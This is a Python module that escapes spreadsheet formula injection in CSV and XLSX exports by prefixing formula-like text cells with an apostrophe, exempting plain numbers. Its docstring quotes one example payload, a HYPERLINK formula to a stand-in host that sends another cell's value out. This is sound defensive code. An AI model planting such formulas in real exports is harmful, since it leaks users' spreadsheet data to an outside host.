"""Cells that a spreadsheet would run as a formula, made inert in every CSV and XLSX export.

A stored name such as ``=HYPERLINK("http://evil.example/?x="&B2,"Click")`` would otherwise come
out as a live formula for whoever opens the download. django-import-export's own setting
(``IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT``) only drops a leading ``=`` and turns every cell,
numbers and empty ones included, into text; this escapes text cells only, as OWASP advises.
"""

import re

# What Excel, LibreOffice and Google Sheets take for the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A number written as text ("-3.7", "+33", "-1,250.5", "-1 250,5", "1e-5") is data, not a formula:
# digits, grouping and decimal marks only, so nothing in it can call a function.
PLAIN_NUMBER = re.compile(r"[+-]?\d[\d,. \u00a0\u202f]*(?:[eE][+-]?\d+)?")


def escape_formula(value):
    """A text that starts like a formula, prefixed with an apostrophe so that it reads as text."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def unescape_formula(value):
    """The stored text of a cell that ``escape_formula`` wrote, for a file imported back."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value
